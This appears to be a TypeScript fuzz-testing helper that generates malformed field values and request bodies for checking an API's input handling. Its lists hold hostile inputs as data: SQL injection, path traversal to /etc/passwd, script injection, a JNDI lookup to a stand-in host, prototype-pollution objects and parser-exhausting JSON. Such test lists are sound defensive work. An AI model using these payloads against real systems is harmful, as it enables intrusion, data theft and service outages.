import fc from 'fast-check';

/** Values of every kind that a field does not expect, and texts that have broken parsers, databases and file systems. */
const VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  2 ** 53,
  1e308,
  [],
  {},
  [[[[]]]],
  { __proto__: { admin: true }, constructor: { prototype: { admin: true } } },
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u2066evil',
  'x'.repeat(100_000),
  '\u0301'.repeat(500),
  "'; drop table person; --",
  '%27%20or%201=1',
  '../../../../etc/passwd',
  '%',
  '%_\\',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is not meant as a template
  '${jndi:ldap://a.example}',
  '{{7*7}}',
  '9999999999999999999999',
  '-0',
  'NaN',
  '1e400',
  'true',
  '2026-02-30T25:61:00Z',
  '0000-00-00',
  'javascript:alert(1)',
  'https://[::1',
];

/** Returns at least `count` values, the same ones for the same seed: those above first, then random ones. */
export function malformedValues(count: number, seed: number): unknown[] {
  const random = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.anything({ withNullPrototype: false, maxDepth: 3 }),
    fc.double(),
    fc.webUrl(),
  );
  return [...VALUES, ...fc.sample(random, { numRuns: Math.max(1, count - VALUES.length), seed })];
}

/** Bodies that are no JSON object, or not what they say they are. */
export const MALFORMED_BODIES: readonly { body: string | Uint8Array; type?: string }[] = [
  { body: '' },
  { body: 'null' },
  { body: '[]' },
  { body: '"text"' },
  { body: '{' },
  { body: '{"a":1,}' },
  { body: `${'['.repeat(50_000)}${']'.repeat(50_000)}` },
  { body: `{"a":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}` },
  { body: `{${Array.from({ length: 20_000 }, (_, n) => `"k${n}":1`).join(',')}}` },
  { body: new Uint8Array([0xff, 0xfe, 0x7b, 0x7d]) },
  { body: '\ufeff{}' },
  { body: '{"a":1e999999}' },
  { body: '{"__proto__":{"admin":true}}' },
  { body: '<xml/>', type: 'application/xml' },
  { body: 'a=1&b=2', type: 'application/x-www-form-urlencoded' },
  { body: '{}', type: 'application/json; charset=utf-16' },
  { body: '{}', type: '' },
];
